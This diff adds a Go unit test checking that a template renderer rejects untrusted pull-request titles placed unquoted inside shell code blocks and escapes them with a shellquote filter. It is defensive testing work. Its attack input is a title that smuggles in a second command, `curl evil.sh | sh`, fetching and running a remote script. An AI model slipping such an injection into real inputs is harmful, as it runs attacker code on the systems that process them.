@@ -0,0 +1,38 @@
+package cmd
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestRenderTemplateShellInterpolation(t *testing.T) {
+	tmpl := "Title: {{.pr_title}}\n```sh\ngh pr comment 7 --body \"{{.pr_title}}\"\n```\n"
+
+	got, err := renderTemplate(tmpl, map[string]interface{}{"pr_title": "Fix login"})
+	if err != nil {
+		t.Fatalf("safe title: %v", err)
+	}
+	if !strings.Contains(got, `--body "Fix login"`) {
+		t.Errorf("rendered = %q", got)
+	}
+
+	evil := map[string]interface{}{"pr_title": `fix"; curl evil.sh | sh; echo "`}
+	_, err = renderTemplate(tmpl, evil)
+	if err == nil || !strings.Contains(err.Error(), "shellquote") {
+		t.Fatalf("untrusted title with metacharacters: err = %v, want refusal", err)
+	}
+
+	quoted := "```sh\ngh pr comment 7 --body {{.pr_title | shellquote}}\n```\n"
+	got, err = renderTemplate(quoted, evil)
+	if err != nil {
+		t.Fatalf("quoted title: %v", err)
+	}
+	if !strings.Contains(got, `--body 'fix"; curl evil.sh | sh; echo "'`) {
+		t.Errorf("rendered = %q", got)
+	}
+
+	// Outside shell contexts the title is prose and renders as is.
+	if _, err := renderTemplate("Title: {{.pr_title}}", evil); err != nil {
+		t.Errorf("prose: %v", err)
+	}
+}